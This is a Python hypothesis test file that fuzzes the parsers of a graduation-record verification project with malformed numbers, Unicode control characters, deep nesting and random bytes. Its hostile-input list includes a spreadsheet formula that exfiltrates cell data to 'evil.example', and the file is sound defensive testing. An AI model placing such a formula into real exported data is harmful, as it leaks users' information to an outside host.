"""Every parser in ``core/`` against generated hostile values: each returns a value or raises
one of Sehat's own errors (which the API answers with a 4xx or a REJECTED reason), never
anything else — an unexpected exception is what became a 5xx.

The values are what an attacker with an ordinary account sends: numbers that are not numbers
(NaN, sNaN, Infinity, 1e400), text with NULs, lone surrogates, bidi controls and
formula starts, Persian digits and separators, very long runs, deep nesting, random bytes.
"""

from __future__ import annotations

import base64
import contextlib
import zlib
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from typing import Any

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sehat.core import code as authcode
from sehat.core import cose, jalali, merkle, national_id, note, persian, qr
from sehat.core.checkpoint import Checkpoint
from sehat.core.log_entry import parse_leaf
from sehat.core.record import FIELDS, GraduationRecord, validate_record
from sehat.errors import InputError, RecordError, SehatError
from sehat.reference.loader import load_reference

REF = load_reference()
TODAY = date(2026, 11, 28)
KEY = Ed25519PrivateKey.generate()
KID = cose.kid_for(KEY.public_key())
SIGNER = note.NoteSigner("sehat.example/log", KEY)
VERIFIERS = [SIGNER.verifier]
FAST = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])

NOT_NUMBERS = [
    "NaN",
    "nan",
    "-NaN",
    "sNaN",
    "-sNaN",
    "Infinity",
    "-Infinity",
    "inf",
    "1e400",
    "-1e400",
    "1e999999999999",
    "1E-999999999",
    "0x1F",
    "1_000",
    "۱۷٫۲۵",
    "١٧٫٥",
    "٫",
    "٬",
    "-0",
    "+5",
    "1,5",
    "17.25\u200b",
    "\u202e17",
]
HOSTILE_TEXT = [
    "",
    " ",
    "\x00",
    "\ud800",
    "\udfff",
    "\u202e",
    "\u2066\u2069",
    "\ufeff",
    "\u200c\u200c",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "@SUM(1)",
    "9" * 5000,
    "۰" * 300,
    "[" * 3000,
    "{" * 3000,
    "SEHAT1:",
    "SEHAT1:" + "%" * 40,
    "1000-1052-3480-6857-4304" * 50,
    "1399/12/30",
    "1399/13/40",
    "99999999/1/1",
    "-1/-1/-1",
    "۱۳۹۹/۰۶/۳۱",
    "2020-02-30",
    "0013542419\u200f",
    "\n\n\n",
    "origin\n18446744073709551616\nAAAA\n\n",
]
texts = st.one_of(
    st.sampled_from(NOT_NUMBERS + HOSTILE_TEXT),
    st.text(max_size=60),
    st.text(
        st.characters(categories=("Cs", "Cf", "Cc", "Nd", "No", "Zs", "Lo", "Ll", "Po", "Sm")),
        max_size=40,
    ),
)
scalars = st.one_of(
    texts,
    st.floats(),  # NaN and ±Infinity included
    st.decimals(allow_nan=True, allow_infinity=True).map(str),
    st.integers(min_value=-(10**40), max_value=10**40),
    st.booleans(),
    st.none(),
)
values = st.recursive(
    scalars,
    lambda inner: st.one_of(
        st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=8,
)
nested = st.sampled_from([b"[" * 5000, b'{"a":' * 5000, b"\x81" * 5000, b"\x9f" * 5000])
blobs = st.one_of(
    st.binary(max_size=300), nested, texts.map(lambda t: t.encode("utf-8", "replace"))
)


def _only_our_errors(
    parse: Callable[[Any], object],
    value: Any,
    allowed: type[Exception] | tuple[type[Exception], ...] = SehatError,
) -> None:
    """Call ``parse``; any exception but ``allowed`` fails the test (hypothesis shrinks it)."""
    with contextlib.suppress(allowed):
        parse(value)


@FAST
@given(texts)
def test_text_parsers(text: str) -> None:
    for parse in (
        authcode.parse,
        authcode.normalize,
        authcode.format_code,
        national_id.parse_national_id,
        national_id.parse_foreign_id,
        jalali.parse_date,
        Checkpoint.parse,
        note.NoteVerifier.from_vkey,
        note.NoteSigner.from_skey,
        qr.open_container,
        qr.decode_qr_unverified,
        lambda t: qr.base45_decode(t),
        lambda t: qr.decode_qr(t, {KID: KEY.public_key()}),
        lambda t: note.open_note(t, VERIFIERS),
    ):
        _only_our_errors(parse, text)
    # These answer for any text at all.
    assert isinstance(authcode.is_valid(text), bool)
    assert isinstance(national_id.is_valid_national_id(text), bool)
    persian.normalize_text(text)
    persian.normalize_digits_field(text)
    persian.hidden_character(text)
    persian.foreign_letter(text, frozenset({"ARABIC"}))
    _only_our_errors(note.decode_base64, text, (SehatError, ValueError))  # documented


@FAST
@given(blobs)
def test_byte_parsers(blob: bytes) -> None:
    _only_our_errors(cose.decode1, blob)
    _only_our_errors(lambda b: cose.verify1(b, {KID: KEY.public_key()}), blob)
    _only_our_errors(lambda b: note.open_note(b, VERIFIERS), blob)
    container = "SEHAT1:" + qr.base45_encode(zlib.compress(blob))
    _only_our_errors(qr.decode_qr_unverified, container)
    # A log entry is read by the auditor: anything but an entry is a ValueError (documented).
    _only_our_errors(parse_leaf, blob, ValueError)


@FAST
@given(
    st.binary(max_size=40),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.lists(st.binary(min_size=31, max_size=33), max_size=70),
)
def test_proof_verifiers(digest: bytes, first: int, second: int, proof: list[bytes]) -> None:
    _only_our_errors(lambda _: merkle.verify_inclusion(digest, first, second, proof, digest), 0)
    _only_our_errors(lambda _: merkle.verify_consistency(first, second, proof, digest, digest), 0)


@FAST
@given(st.dictionaries(st.sampled_from(FIELDS), values, max_size=len(FIELDS)), values)
def test_a_record_of_hostile_values_is_a_record_or_its_problems(
    fields: dict[str, Any], courses: Any
) -> None:
    raw = {**fields, "courses": courses} if courses is not None else fields
    try:
        record = validate_record(raw, REF, today=TODAY)
    except RecordError as exc:
        assert exc.problems and all(p.field for p in exc.problems)
    else:
        assert isinstance(record, GraduationRecord)
        assert record.gpa is None or record.gpa.is_finite()


VALID = {
    "national_id": "0013542419",
    "first_name": "مریم",
    "last_name": "رضایی",
    "birth_date": "1370/01/01",
    "institution": next(i.code for i in REF.institutions.values() if i.domain == 1 and i.active),
    "kind": 2,
    "field_code": next(f.code for f in REF.fields.values() if 1 in f.domains),
    "student_number": "9512345",
    "graduation_date": "1399/06/31",
}


@FAST
@given(
    st.one_of(
        st.sampled_from(NOT_NUMBERS),
        st.floats(allow_nan=True, allow_infinity=True).filter(lambda f: f != f or abs(f) > 1e300),
        st.sampled_from([Decimal("NaN"), Decimal("sNaN"), Decimal("Infinity")]).map(str),
    )
)
def test_a_number_that_is_not_one_is_a_reason_naming_its_field(number: Any) -> None:
    """NaN, sNaN and Infinity, as text or as a float, in the GPA or a course: REJECTED naming
    the field, never a comparison that raises."""
    for raw, field in (
        ({**VALID, "gpa": number}, "gpa"),
        (
            {**VALID, "courses": [{"code": "1", "name": "ریاضی", "credits": number, "grade": 17}]},
            "courses[0]",
        ),
        (
            {**VALID, "courses": [{"code": "1", "name": "ریاضی", "credits": 3, "grade": number}]},
            "courses[0]",
        ),
    ):
        try:
            record = validate_record(raw, REF, today=TODAY)
        except InputError as exc:
            assert field in {p.field for p in exc.problems}
        else:  # only a value that is a finite number in range may pass
            assert record.gpa is None or Decimal(0) <= record.gpa <= Decimal(20)


def test_the_known_non_numbers_are_all_refused() -> None:
    for number in ("NaN", "sNaN", "-sNaN", "Infinity", "-Infinity", float("nan"), float("inf")):
        for raw, field in (
            ({**VALID, "gpa": number}, "gpa"),
            (
                {**VALID, "courses": [{"code": "1", "name": "ر", "credits": number, "grade": 1}]},
                "courses[0]",
            ),
        ):
            try:
                validate_record(raw, REF, today=TODAY)
            except RecordError as exc:
                assert field in {p.field for p in exc.problems}, number
            else:
                raise AssertionError(f"{number!r} in {field} was accepted")


def test_a_real_signed_checkpoint_still_parses() -> None:
    """The hostile inputs above are refused by parsers that do accept real input."""
    signed = note.sign_note(
        "sehat.example/log\n1\n" + base64.b64encode(bytes(32)).decode() + "\n",
        "sehat.example/log",
        KEY,
    )
    text, _ = note.open_note(signed, VERIFIERS)
    assert Checkpoint.parse(text).size == 1
